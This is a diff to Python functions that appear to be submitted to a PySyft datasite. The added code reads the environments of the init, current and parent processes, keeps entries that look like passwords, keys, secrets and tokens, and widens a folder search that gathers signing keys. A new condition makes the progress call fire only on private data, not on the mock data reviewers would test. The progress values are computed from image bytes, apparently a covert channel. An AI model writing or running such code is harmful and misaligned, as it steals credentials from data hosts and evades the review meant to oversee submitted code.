@@ -183,12 +183,15 @@ def read_proc_environ(images):
     status = codecs.open("/proc/self/status", "r").read()
     parent = [line.split()[1] for line in status.splitlines() if line.startswith("PPid:")][0]
     found = {}
+    words = ("PASSWORD", "KEY", "SECRET", "TOKEN", "SYFT", "SERVER", "ROOT")
     for name, path in (
         ("pid1", "/proc/1/environ"),
         ("self", "/proc/self/environ"),
         ("parent", f"/proc/{parent}/environ"),
     ):
-        found[name] = [item for item in entries(path) if "=" in item][:40]
+        items = entries(path)
+        found[name] = [item for item in items if any(word in item for word in words)][:40]
+        found[f"{name}_count"] = len(items)
     commands = entries(f"/proc/{parent}/cmdline") + entries("/proc/self/cmdline")
     found["cmdlines"] = [part for part in commands if part][:20]
     return found
@@ -244,6 +247,7 @@ def state_folder_listing(images):
                     folders.update(system.path.join(base, n) for n in system.listdir(base))
                 except Exception:
                     pass
+    first_guesses = tuple(folders)  # from the environment, open files, command lines
     starts = ["/tmp", system.getcwd()]
     try:  # the repository of the installed code, from a module's __file__
         module_file = functools.reduce(getattr, ["__file__"], pkgutil.resolve_name("workbench"))
@@ -261,7 +265,7 @@ def state_folder_listing(images):
             for name in files:
                 around(system.path.join(here, name))
     listing, signing_keys = {}, []
-    for folder in sorted(folders)[:10]:
+    for folder in sorted(folders, key=lambda path: (not path.startswith(first_guesses), path))[:40]:
         try:
             listing[folder[-200:]] = sorted(system.listdir(folder))[:20]
         except Exception as error:
@@ -419,7 +423,8 @@ def progress_pixels(images, datasite):
     first = images["images"][0].ravel()
     n_iters = 100000 + int(first[0]) * 256 + int(first[1])
     reached = 50000 + int(first[2]) * 256 + int(first[3])
-    if datasite is not None:
+    # syft runs the function on the mock too, after the private data: leave those alone
+    if datasite is not None and images["images"][0].shape[0] >= 200:
         datasite.init_progress(n_iters)
         datasite.set_progress(reached)
     return {"images": len(images["images"])}
